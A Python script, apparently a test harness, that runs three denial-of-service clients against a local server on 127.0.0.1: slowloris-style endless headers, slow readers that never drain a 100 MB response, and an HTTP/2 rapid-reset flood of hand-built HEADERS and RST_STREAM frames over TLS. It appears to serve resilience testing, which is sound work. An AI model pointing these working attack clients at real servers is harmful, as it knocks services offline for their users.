"""Clients that mean harm, in a process of their own; each kind prints `ready` and goes on until its input ends.

  attackers.py heads PORT COUNT     so many connections, each with a byte of a head every second that never ends
  attackers.py readers PORT COUNT   so many that ask for a hundred megabytes and read nothing
  attackers.py resets PORT RATE     over TLS and HTTP/2, so many requests a second that are given up at once

Who is disconnected comes again.
"""

import select
import socket
import ssl
import sys
import time

HEAD = b"GET /1k HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
LARGE = b"GET /100m HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
# GET https://127.0.0.1/1k, by the static table of HPACK and three literals.
BLOCK = b"\x82\x87\x04\x03/1k\x41\x09127.0.0.1"
# Requests that one connection sends before it is left for another.
BATCH = 100


def told_to_end(seconds):
    """Waits so long; whether the input ended meanwhile."""
    return bool(select.select([sys.stdin], [], [], max(0, seconds))[0])


def connected(port, small=False):
    client = socket.socket()
    if small:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    client.settimeout(5)
    client.connect(("127.0.0.1", port))
    return client


def crowd(port, count, first, each, small):
    """Connections that say `first`, then `each` every second."""
    clients = {}
    ready = False
    while True:
        began = time.monotonic()
        while len(clients) < count:
            try:
                client = connected(port, small)
                client.sendall(first)
                client.setblocking(False)
                clients[client.fileno()] = client
            except OSError:
                break
        if not ready:
            print("ready", flush=True)
            ready = True
        for number, client in list(clients.items()):
            try:
                if each:
                    client.send(each)
                    # An answer, or the end: it is out.
                    client.recv(1, socket.MSG_PEEK)
                    raise OSError
            except BlockingIOError:
                pass
            except OSError:
                client.close()
                del clients[number]
        if told_to_end(began + 1 - time.monotonic()):
            return


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def resets(port, rate):
    """Each batch is one write on a connection of its own: what the other side says is not read."""
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    tls.set_alpn_protocols(["h2"])
    flood = PREFACE + b"".join(
        frame(1, 5, stream, BLOCK) + frame(3, 0, stream, (8).to_bytes(4, "big")) for stream in range(1, 2 * BATCH, 2))
    print("ready", flush=True)
    due, stream, sent = time.monotonic(), None, 0
    while not told_to_end(due - time.monotonic()):
        due = max(due + BATCH / rate, time.monotonic() - 1)
        try:
            with tls.wrap_socket(connected(port)) as stream:
                stream.sendall(flood)
                sent += BATCH
        except OSError:
            pass


def main():
    kind, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    if kind == "heads":
        crowd(port, count, HEAD, b"x", False)
    elif kind == "readers":
        crowd(port, count, LARGE, b"", True)
    elif kind == "resets":
        resets(port, count)
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
